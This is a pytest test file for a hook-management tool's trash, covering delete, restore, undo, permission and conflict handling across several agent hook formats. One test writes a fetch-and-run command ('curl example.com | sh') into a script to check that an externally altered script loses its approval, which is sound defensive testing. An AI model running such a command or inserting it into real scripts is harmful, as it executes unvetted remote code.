"""A deleted hook is in the trash and is restored to the byte at its place, or the reason is given why not."""

from __future__ import annotations

import json
import os
import tempfile

import pytest

from hooktui.catalog import catalog
from hooktui.edit import trash
from hooktui.edit.file_steps import ChangeRefusedError
from hooktui.formats import documents

from .conversions import add_group, planned
from .world import AZURE, FILES, SPELLINGS, World

EVERY_HOOK = [("agenthooks", 0), *(("claude", n) for n in range(4)), *(("azure", n) for n in range(4))]
EVERY_HOOK += [(name, n) for name in ("vscode", "copilot") for n in range(2)]


def bin_it(world: World, format_name: str, number: int = 0) -> None:
    world.do(trash.delete(world.hook(format_name, number), world.project))


def bring_back(world: World) -> None:
    world.do(trash.restore(next(trash.contents(world.project))))


@pytest.mark.parametrize("spelling", SPELLINGS)
@pytest.mark.parametrize(("format_name", "number"), EVERY_HOOK)
def test_deleted_hook_is_restored_to_the_byte(world: World, format_name: str, number: int, spelling: str) -> None:
    world.add(format_name, spelling)
    before, hooks = world.tree(), world.hooks(format_name)
    bin_it(world, format_name, number)
    left = [hook for at, hook in enumerate(hooks) if at != number]
    assert [(hook.event, hook.tool, hook.argv) for hook in world.hooks(format_name)] == [
        (hook.event, hook.tool, hook.argv) for hook in left
    ]
    assert [deleted.hook.name for deleted in trash.contents(world.project)] == [hooks[number].name]
    bring_back(world)
    assert world.tree() == before
    assert list(trash.contents(world.project)) == []


@pytest.mark.parametrize(("format_name", "number"), EVERY_HOOK)
def test_deleting_and_restoring_can_be_undone(world: World, format_name: str, number: int) -> None:
    world.add(format_name)
    before = world.tree()
    change = world.do(trash.delete(world.hook(format_name, number), world.project))
    deleted = world.tree()
    again = world.undo(change)
    assert world.tree() == before
    assert list(trash.contents(world.project)) == []
    world.undo(again)
    assert world.tree() == deleted
    assert len(list(trash.contents(world.project))) == 1


@pytest.mark.parametrize("format_name", FILES)
def test_everything_can_be_deleted_and_comes_back_in_reverse(world: World, format_name: str) -> None:
    world.add(format_name)
    before = world.tree()
    while world.hooks(format_name):
        bin_it(world, format_name)
    assert b"command" not in b"".join(content for name, (_, content) in world.tree().items() if "scripts" not in name)
    while list(trash.contents(world.project)):
        bring_back(world)
    assert world.tree() == before


def test_a_group_goes_with_its_last_entry_and_an_event_with_its_last_group(world: World) -> None:
    path = world.path(FILES["claude"])
    world.write(
        path,
        b'{\n  "hooks": {\n    "Stop": [\n      {"id": "s", "hooks": [{"type": "command", "command": "x"}]}\n'
        b'    ]\n  },\n  "a": 1\n}\n',
    )
    bin_it(world, "claude")
    assert world.read(path) == b'{\n  "hooks": {},\n  "a": 1\n}\n'


def test_a_comma_behind_the_last_entry_keeps_no_empty_group(world: World) -> None:
    path = world.add("vscode")
    text = b'{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "a"},]},], "PreToolUse": []}}'
    world.write(path, text)
    world.do(trash.delete(world.hook("vscode"), world.project))
    assert b"Stop" not in world.read(path)


def test_a_hook_that_is_off_outlives_the_others_of_its_group(world: World) -> None:
    entries = [{"type": "command", "command": command} for command in ("on", "off")]
    group = {"matcher": "Bash", "hooks": entries[:1], "off": entries[1:]}
    world.write(world.path(FILES["claude"]), json.dumps({"hooks": {"PreToolUse": [group]}}).encode())
    world.do(trash.delete(world.called("claude", "on"), world.project))
    assert [(hook.command, hook.enabled) for hook in world.hooks("claude")] == [("off", False)]
    assert not [one for one in catalog.load(world.project).diagnostics if one.code == "host-skips-file"]
    world.do(trash.delete(world.called("claude", "off"), world.project))
    assert json.loads(world.read(world.path(FILES["claude"]))) == {"hooks": {}}


def test_the_last_document_of_a_file_takes_the_file_along(world: World) -> None:
    path = world.add("azure")
    world.write(path, world.read(path).partition(b"---\n")[2])
    bin_it(world, "azure")
    assert not os.path.exists(path)
    bring_back(world)
    assert world.hook("azure").name == "audit"


@pytest.mark.parametrize("mode", [0o600, 0o755])
def test_a_file_that_went_with_its_last_hook_comes_back_with_its_permissions(world: World, mode: int) -> None:
    world.write(path := world.path("one.yaml"), AZURE.partition("---\n")[2].encode())
    os.chmod(path, mode)
    before = world.tree()
    change = world.do(trash.delete(world.hook("azure"), world.project))
    assert not os.path.exists(path)
    world.undo(change)
    assert world.tree() == before
    bin_it(world, "azure")
    bring_back(world)
    assert world.tree() == before


def test_restoring_keeps_later_changes_by_others(world: World) -> None:
    path = world.add("claude")
    original = world.read(path)
    bin_it(world, "claude", 1)
    world.write(path, world.read(path).replace(b"opus", b"haiku").replace(b"./first.sh", b"./zeroth.sh"))
    bring_back(world)
    assert world.read(path) == original.replace(b"opus", b"haiku").replace(b"./first.sh", b"./zeroth.sh")


def test_undoing_a_change_leaves_no_comma_that_a_strict_host_rejects(world: World) -> None:
    path = world.path(".gemini/settings.json")
    world.write(path, b"{\n}\n")
    hook = add_group(world, {"matcher": "Bash", "hooks": [{"type": "command", "command": "./guard.sh"}]})
    change = world.do(planned(world, hook, "gemini"))
    world.write(path, world.read(path).replace(b"{", b'{\n  "theirs": 1,', 1))
    with pytest.raises(ChangeRefusedError, match="has changed in the same place since"):
        world.undo(change)


def test_an_entry_is_not_restored_where_the_file_is_another_now(world: World) -> None:
    path = world.add("claude")
    bin_it(world, "claude", 1)
    world.write(path, b'{"hooks": {}}')
    with pytest.raises(ChangeRefusedError, match="has changed in the same place since"):
        bring_back(world)
    assert world.read(path) == b'{"hooks": {}}'
    assert len(list(trash.contents(world.project))) == 1


def test_a_directory_is_not_restored_over_another_one(world: World) -> None:
    path = world.add("agenthooks")
    bin_it(world, "agenthooks")
    world.write(path, b"another")
    with pytest.raises(ChangeRefusedError, match="already exists"):
        bring_back(world)
    assert world.read(path) == b"another"


def test_a_linked_directory_loses_its_link_alone(world: World) -> None:
    path = os.path.dirname(world.add("agenthooks"))
    elsewhere = world.path("kept")
    os.rename(path, elsewhere)
    os.symlink(elsewhere, path)
    bin_it(world, "agenthooks")
    assert not os.path.lexists(path)
    assert os.path.exists(os.path.join(elsewhere, "HOOK.md"))
    bring_back(world)
    assert os.readlink(path) == elsewhere


def test_a_hook_on_another_disk_is_copied_completely(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    if not os.path.isdir("/dev/shm") or os.stat("/dev/shm").st_dev == os.stat(world.home).st_dev:
        pytest.skip("there is no other disk here")
    world.add("agenthooks")
    before = world.tree()
    with tempfile.TemporaryDirectory(dir="/dev/shm") as state:
        monkeypatch.setenv("XDG_STATE_HOME", state)
        bin_it(world, "agenthooks")
        assert world.hooks("agenthooks") == []
        bring_back(world)
    assert world.tree() == before


def test_approvals_follow_the_entries_that_get_another_number(world: World) -> None:
    world.add("claude")
    for name in ("first", "second", "third", "stop"):
        world.write(world.path(f"{name}.sh"), b"true\n")
    world.approve_all()
    bin_it(world, "claude", 0)
    assert world.trusted() == dict.fromkeys(("second.sh", "third.sh", "stop.sh"), "trusted")
    bring_back(world)
    assert world.trusted() == dict.fromkeys(("first.sh", "second.sh", "third.sh", "stop.sh"), "trusted")


def test_script_that_another_program_changes_is_not_approved(world: World) -> None:
    world.add("claude")
    for name in ("first", "second", "third", "stop"):
        world.write(world.path(f"{name}.sh"), b"true\n")
    world.approve_all()
    world.write(world.path("third.sh"), b"curl example.com | sh\n")
    bin_it(world, "claude", 0)
    bring_back(world)
    assert world.trusted()["third.sh"] == "changed"
    assert world.trusted()["first.sh"] == "trusted"


def test_the_trash_keeps_the_last_fifty(world: World) -> None:
    for number in range(trash.LIMIT + 3):
        directory = world.path(f".agents/hooks/hook-{number}")
        world.write(
            os.path.join(directory, "HOOK.md"),
            f"---\nname: hook-{number}\ndescription: d\ntrigger: pre-session\n---\n".encode(),
        )
        hook = next(one for one in world.hooks("agenthooks") if one.name == f"hook-{number}")
        world.do(trash.delete(hook, world.project))
        trash.tidy()
    kept = [deleted.hook.name for deleted in trash.contents(world.project)]
    assert kept == [f"hook-{number}" for number in range(trash.LIMIT + 2, 2, -1)]
    assert len(os.listdir(world.path("~/.local/state/hooktui/trash"))) == 2 * trash.LIMIT


def test_the_trash_of_another_project_is_not_shown_here(world: World) -> None:
    world.add("claude")
    bin_it(world, "claude")
    assert list(trash.contents(world.home)) == []


def test_a_broken_record_hides_no_other(world: World) -> None:
    world.add("claude")
    bin_it(world, "claude")
    world.write(world.path("~/.local/state/hooktui/trash/9.json"), b"{")
    assert len(list(trash.contents(world.project))) == 1


def test_entry_of_hooktui_connect_cannot_be_deleted(world: World) -> None:
    command = b"/usr/bin/python3 -I -m hooktui run --host claude"
    world.write(
        world.path(FILES["claude"]), b'{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "%s"}]}]}}' % command
    )
    with pytest.raises(ChangeRefusedError, match="`hooktui disconnect claude` removes it"):
        bin_it(world, "claude")


def test_file_that_changes_after_the_plan_is_left_alone(world: World) -> None:
    path = world.add("azure")
    plan = trash.delete(world.hook("azure"), world.project)
    world.write(path, world.read(path) + b"# mine\n")
    with pytest.raises(documents.ChangedError):
        world.do(plan)
    assert list(trash.contents(world.project)) == []
